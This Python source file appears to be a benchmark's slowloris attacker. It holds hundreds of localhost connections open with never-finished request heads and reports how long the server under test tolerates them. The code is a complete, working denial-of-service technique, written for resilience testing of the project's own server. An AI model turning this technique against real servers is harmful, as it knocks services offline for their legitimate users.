"""The benchmark's slowloris attacker: N connections that each start a request head and never finish it.

`python bench/slowloris.py PORT [--connections 500] [--interval 0.2:0.3] [--duration S]` (127.0.0.1).
Each connection sends a request line, a Host field and the start of one more field, then one more byte
of that field's value every `interval` seconds (uniformly random in the range, so the connections do not
beat in step). When the server ends a connection (EOF or reset), that slot opens a new one at once, as a
real attacker would: the server is kept under N slow connections for the whole run. The first N are
opened over `--ramp` seconds.

It prints `ready N` once all N first connections are open and have sent their first bytes, and on exit
(after `--duration` seconds, or on SIGTERM/SIGINT) one JSON line of statistics: connections opened,
closed by the server (EOF / reset), connect failures, how long the server let each one live (from its
first byte to the server's close), the most held at once, the ones still open and their age, and any
response bytes the server sent (a server that answers a slow head at all would show here). One uvloop
event loop with protocol callbacks, so the attacker costs little of the load core it shares with hey.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import resource
import signal
import statistics
from typing import cast

import uvloop

HOST = "127.0.0.1"
HEAD = b"GET /slowloris/%d HTTP/1.1\r\nHost: slowloris\r\nX-Slowloris: "


class Stats:
    def __init__(self) -> None:
        self.opened = 0
        self.eof = 0
        self.reset = 0
        self.connect_failed = 0
        self.lifetimes: list[float] = []  # first byte -> closed by the server, per closed connection
        self.open: set[Slow] = set()
        self.max_open = 0
        self.reply_bytes = 0
        self.reply_sample = b""


class Slow(asyncio.Protocol):
    """One slow connection: sends a head's start, then trickles; tells the attack when the server ends it."""

    def __init__(self, attack: Attack, slot: int) -> None:
        self.attack = attack
        self.slot = slot
        self.loop = attack.loop
        self.transport: asyncio.Transport | None = None
        self.started = 0.0
        self.timer: asyncio.TimerHandle | None = None
        self.ended = False

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        self.started = self.loop.time()
        self.transport.write(HEAD % self.slot)
        stats = self.attack.stats
        stats.opened += 1
        stats.open.add(self)
        stats.max_open = max(stats.max_open, len(stats.open))
        self._schedule()

    def _schedule(self) -> None:
        self.timer = self.loop.call_later(self.attack.rng.uniform(*self.attack.interval), self._trickle)

    def _trickle(self) -> None:
        if self.transport is not None and not self.transport.is_closing():
            self.transport.write(b"a")  # one more byte of the field value, never its end
            self._schedule()

    def data_received(self, data: bytes) -> None:
        stats = self.attack.stats
        stats.reply_bytes += len(data)
        if len(stats.reply_sample) < 200:
            stats.reply_sample += data[: 200 - len(stats.reply_sample)]

    def eof_received(self) -> bool:
        self._server_closed(reset=False)
        return False  # close our side too

    def connection_lost(self, exc: Exception | None) -> None:
        if exc is not None:
            self._server_closed(reset=True)
        self._end()

    def _server_closed(self, *, reset: bool) -> None:
        if self.ended or self.attack.stopping:
            return
        stats = self.attack.stats
        stats.lifetimes.append(self.loop.time() - self.started)
        if reset:
            stats.reset += 1
        else:
            stats.eof += 1
        self._end()
        self.attack.reopen(self.slot)

    def _end(self) -> None:
        if self.ended:
            return
        self.ended = True
        if self.timer is not None:
            self.timer.cancel()
        self.attack.stats.open.discard(self)

    def close(self) -> None:
        self._end()
        if self.transport is not None:
            self.transport.abort()


class Attack:
    def __init__(self, port: int, connections: int, interval: tuple[float, float], seed: int) -> None:
        self.loop = asyncio.get_running_loop()
        self.port = port
        self.connections = connections
        self.interval = interval
        self.rng = random.Random(seed)
        self.stats = Stats()
        self.stopping = False
        self.tasks: set[asyncio.Task[None]] = set()  # reconnects in progress (held: tasks are weak refs)

    async def connect(self, slot: int) -> bool:
        try:
            await self.loop.create_connection(lambda: Slow(self, slot), HOST, self.port)
        except OSError:
            self.stats.connect_failed += 1
            return False
        return True

    def reopen(self, slot: int) -> None:
        if not self.stopping:
            task = self.loop.create_task(self._reopen(slot))
            self.tasks.add(task)
            task.add_done_callback(self.tasks.discard)

    async def _reopen(self, slot: int) -> None:
        for _ in range(50):  # a failed connect is retried, but not forever
            if self.stopping or await self.connect(slot):
                return
            await asyncio.sleep(0.1)

    async def ramp(self, seconds: float) -> int:
        """Open the first connections, spread over `seconds`; how many are open."""
        step = seconds / self.connections
        opened = 0
        for slot in range(self.connections):
            opened += await self.connect(slot)
            await asyncio.sleep(step)
        return opened

    def summary(self) -> dict[str, object]:
        s = self.stats
        now = self.loop.time()
        ages = [now - c.started for c in s.open]
        life = sorted(s.lifetimes)
        return {
            "connections": self.connections,
            "opened": s.opened,
            "closed_by_server": s.eof + s.reset,
            "eof": s.eof,
            "reset": s.reset,
            "connect_failed": s.connect_failed,
            "lifetime_s": {
                "min": life[0],
                "median": statistics.median(life),
                "max": life[-1],
            }
            if life
            else None,
            "max_open": s.max_open,
            "still_open": len(ages),
            "oldest_open_s": max(ages, default=0.0),
            "reply_bytes": s.reply_bytes,
            "reply_sample": s.reply_sample.decode("latin-1"),
        }


async def main(a: argparse.Namespace) -> None:
    lo, _, hi = a.interval.partition(":")
    attack = Attack(a.port, a.connections, (float(lo), float(hi or lo)), a.seed)
    done = asyncio.Event()
    for sig in (signal.SIGTERM, signal.SIGINT):
        attack.loop.add_signal_handler(sig, done.set)
    timer = attack.loop.call_later(a.duration, done.set)
    opened = await attack.ramp(a.ramp)
    print(f"ready {opened}", flush=True)
    await done.wait()
    timer.cancel()
    summary = attack.summary()  # before our own closes, which are not the server's doing
    attack.stopping = True
    for conn in list(attack.stats.open):
        conn.close()
    print(json.dumps(summary), flush=True)


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    p = argparse.ArgumentParser(prog="bench/slowloris.py", description=__doc__.splitlines()[0])
    p.add_argument("port", type=int, help="the server's port on 127.0.0.1")
    p.add_argument("--connections", type=int, default=500, help="slow connections held at once (500)")
    p.add_argument("--interval", default="0.2:0.3", help="seconds between trickled bytes, LO:HI (0.2:0.3)")
    p.add_argument("--ramp", type=float, default=0.5, help="seconds over which the first ones open (0.5)")
    p.add_argument("--duration", type=float, default=60.0, help="stop after this long at most (60)")
    p.add_argument("--seed", type=int, default=1)
    return p.parse_args(argv)


if __name__ == "__main__":
    args = parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 64
    if soft != resource.RLIM_INFINITY and soft < want and (hard == resource.RLIM_INFINITY or hard >= want):
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    uvloop.run(main(args))
